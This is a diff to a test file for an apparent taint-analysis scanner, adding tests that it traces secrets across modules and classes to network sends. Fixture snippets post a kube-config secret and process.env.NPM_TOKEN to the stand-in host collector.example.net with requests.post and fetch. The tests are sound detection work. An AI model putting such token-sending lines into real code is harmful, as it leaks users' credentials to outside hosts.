@@ -18,7 +18,7 @@ async function modelOf(files: Record<string, string>): Promise<ScanModel> {
     facts.set(path, (await factsOf(lang, text)) as FileFacts);
   }
   return {
-    files: { isFile: (p: string) => facts.has(p) },
+    files: { isFile: (p: string) => facts.has(p), text: async (p: string) => ({ text: files[p] ?? '' }) },
     facts: async (p: string) => facts.get(p),
     derived: new DerivedFacts(),
   } as unknown as ScanModel;
@@ -74,6 +74,72 @@ describe('joined behaviours', () => {
     });
     const { replaced } = await joinedBehaviours(model, 'c/c.py');
     expect([...replaced.values()][0]).toMatchObject({ data: { secret: 'kube-config' } });
+  });
+
+  it('finds a classmethod of a class imported by name from a module of the package', async () => {
+    const model = await modelOf({
+      'p/pkg/ctx.py': `${SECRET_READER}\nclass Ctx:\n    @classmethod\n    def build(cls):\n        return cls(pull())\n`,
+      'p/pkg/main.py':
+        'import requests\nfrom .ctx import Ctx\n\nrequests.post("https://collector.example.net", json={"c": Ctx.build()})\n',
+    });
+    const [send] = [...(await joinedBehaviours(model, 'p/pkg/main.py')).replaced.values()];
+    expect(send).toMatchObject({ kind: 'send', data: { secret: 'kube-config' } });
+    expect(send?.across?.[0]).toMatchObject({ path: 'p/pkg/ctx.py', note: 'Ctx.build() returns it' });
+  });
+
+  const STORES = [
+    'class Disk:',
+    '    def put(self, doc):',
+    '        open("/tmp/out.json", "w").write(doc)',
+    '',
+    'class Remote:',
+    '    def put(self, doc):',
+    '        requests.post("https://collector.example.net", data=doc)',
+    '',
+  ];
+
+  it('weighs every class method of that name when a module function picks the class at run time', async () => {
+    const js = await modelOf({
+      'f/store.js': [
+        'class Disk { put(doc) { require("fs").writeFileSync("/tmp/out.json", doc); } }',
+        'class Remote { put(doc) { return fetch("https://collector.example.net", { method: "POST", body: doc }); } }',
+        'export function makeStore(cfg) { return cfg.remote ? new Remote() : new Disk(); }',
+      ].join('\n'),
+      'f/main.js':
+        'import { makeStore } from "./store.js";\nmakeStore({ remote: true }).put(process.env.NPM_TOKEN);\n',
+    });
+    // Both classes' sinks are reached: the file write of one, the send of the other.
+    const added = (await joinedBehaviours(js, 'f/main.js')).added.filter((b) => b.kind === 'send');
+    expect(added).toMatchObject([{ kind: 'send', data: { secret: 'env-secret' }, at: { startLine: 2 } }]);
+    const py = await modelOf({
+      'f/store.py': [
+        'import requests',
+        '',
+        ...STORES,
+        'def make_store(cfg):',
+        '    return Remote() if cfg else Disk()',
+      ].join('\n'),
+      'f/main.py': `import os\nfrom store import make_store\n\nmake_store(1).put(os.environ["NPM_TOKEN"])\n`,
+    });
+    expect((await joinedBehaviours(py, 'f/main.py')).added.map((b) => b.kind).sort()).toEqual([
+      'send',
+      'write',
+    ]);
+  });
+
+  it('does not take another class method for a class whose own method sends nothing', async () => {
+    const model = await modelOf({
+      'g/store.py': [
+        'import requests',
+        '',
+        ...STORES,
+        'class Quiet:',
+        '    def put(self, doc):',
+        '        return len(doc)',
+      ].join('\n'),
+      'g/main.py': 'import os\nfrom store import Quiet\n\nQuiet().put(os.environ["NPM_TOKEN"])\n',
+    });
+    expect((await joinedBehaviours(model, 'g/main.py')).added).toEqual([]);
   });
 
   it('joins nothing for values that carry no taint', async () => {
